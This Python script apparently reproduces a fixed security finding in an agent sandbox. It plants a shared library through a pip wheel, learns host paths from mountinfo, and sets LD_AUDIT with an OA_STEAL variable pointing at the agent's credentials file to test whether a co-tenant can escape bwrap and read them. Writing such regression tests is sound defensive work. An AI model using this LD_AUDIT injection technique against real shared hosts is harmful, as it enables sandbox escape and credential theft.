"""F1 as first shown (about 12:48 UTC, before the team reserved LD_* and moved spec variables behind
the lockdown): a shared user runs code in the agent's bwrap on the host and reads the agent's
credentials. Today the SDK and the hub refuse LD_* (the pytest module also tries raw REST).

    .venv/bin/python tests/outsider_issue25/repro_f1_ld_audit.py root|nobody
"""
import sys
import tempfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
from tests.outsider_issue25 import attacks  # noqa: E402
from tests.outsider_issue25.harness import SharedEndpoint, build_wheel, compile_audit_lib  # noqa: E402

mode = sys.argv[1] if len(sys.argv) > 1 else "root"
root = Path(tempfile.mkdtemp(prefix=f"oa-{mode}-", dir="/tmp"))
se = SharedEndpoint(root, mode)
so = compile_audit_lib(root)
build_wheel(se.wheels, "oaaudit", "1.0", {"oaaudit/__init__.py": b"", "oaaudit/liboaaudit.so": so.read_bytes()})
se.start()
try:
    mi = se.run("bob", attacks.MOUNTINFO, environment={"pip": ["oaaudit"]}, timeout=180)
    line = [ln for ln in mi.splitlines() if " /opt/mesh-venv" in ln][0]
    host_venv = line.split()[3].split("/envs/venvs/")[0] + "/envs/venvs/" + line.split()[3].split("/envs/venvs/")[1].split("/")[0]
    data_dir = Path(host_venv.split("/envs/venvs/")[0])
    creds = data_dir.parent / (data_dir.name + ".credentials.json")
    lib = host_venv + "/lib/python3.11/site-packages/oaaudit/liboaaudit.so"
    mark = se.markers / "audit"
    print("learnt from mountinfo:", host_venv)
    r = se.run("bob", "def main():\n    return 'innocent'\n",
               environment={"pip": ["oaaudit"], "env_vars": {"LD_AUDIT": lib, "OA_MARK": str(mark), "OA_STEAL": str(creds)}}, timeout=180)
    print("task:", r)
    print(mark.read_text() if mark.exists() else "no marker: the escape is closed")
finally:
    se.stop()
    import shutil
    shutil.rmtree(root, ignore_errors=True)
